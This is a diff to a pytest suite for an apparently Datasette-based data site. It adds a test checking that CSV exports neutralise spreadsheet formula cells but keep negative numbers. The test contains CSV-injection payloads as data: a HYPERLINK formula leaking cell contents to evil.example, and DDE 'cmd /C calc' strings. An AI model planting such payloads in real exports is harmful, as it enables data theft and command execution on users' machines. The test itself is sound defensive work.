@@ -172,6 +172,7 @@ def _free_port():
         return s.getsockname()[1]
 
 
+@pytest.mark.slow   # starts Gunicorn servers
 def test_each_served_instance_has_its_own_gunicorn_control_socket(demo_db, tmp_path):
     db = tmp_path / "minhbach.db"
     shutil.copy(demo_db, db)
@@ -213,3 +214,45 @@ def test_an_error_answer_is_cheap_and_prints_no_locals(datasette, capfd):
         assert sql(datasette, "select * from nowhere")[0].status_code == 400
     assert time.monotonic() - started < 5     # was 1-6 s per error, rendering every frame's locals
     assert "╭" not in capfd.readouterr().err
+
+
+# ---------------------------------------------------------------- item 13: CSV exports run no formula
+
+def test_csv_exports_neutralise_formula_cells_but_not_negative_numbers(published, tmp_path):
+    import csv
+    import io
+
+    from conftest import SAMPLES, run_db
+    rows = list(csv.reader(io.StringIO((SAMPLES / "vn_news_violations.csv").read_text(encoding="utf-8-sig"),
+                                       newline="")))
+    name, address = rows[0].index("Tên cơ sở"), rows[0].index("Địa chỉ")
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+               "-2+3+cmd|' /C calc'!A0"]
+    for row, value in zip(rows[1:], hostile):
+        row[name] = value
+    rows[5][address] = "\tTab " + rows[5][address]
+    path = tmp_path / "hostile.csv"
+    with open(path, "w", encoding="utf-8-sig", newline="") as handle:
+        csv.writer(handle, lineterminator="\r\n").writerows(rows)
+    run_db("ingest", f"vn_news_violations={path}", db=published)
+
+    ds = Datasette([], immutables=[str(published)], metadata=yaml.safe_load((ROOT / "metadata.yml").read_text()),
+                   plugins_dir=str(ROOT / "plugins"), settings={"suggest_facets": False})
+    for url in ("/minhbach/violations.csv?_size=max&source=vn_news_violations",
+                "/minhbach/violations.csv?_stream=on&source=vn_news_violations"):
+        response = get(ds, url)
+        assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
+        exported = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+        assert len(exported) == 50
+        names = {r["establishment"] for r in exported}
+        assert {"'" + value for value in hostile} <= names
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in exported for v in r.values()
+                       if v and not v.lstrip("-").replace(".", "", 1).isdigit())
+        assert any(r["address"].startswith("'\tTab ") for r in exported)
+    # Negative numbers are numbers, not formulas: the UK longitudes come out exactly as stored.
+    stored = {str(lon) for (lon,) in asyncio.run(ds.get_database("minhbach").execute(
+        "select longitude from violations where longitude < 0")).rows}
+    assert stored
+    response = get(ds, "/minhbach/violations.csv?_size=max&_col=longitude&longitude__lt=0")
+    exported = {r["longitude"] for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))}
+    assert exported == stored and all(v.startswith("-") for v in exported)
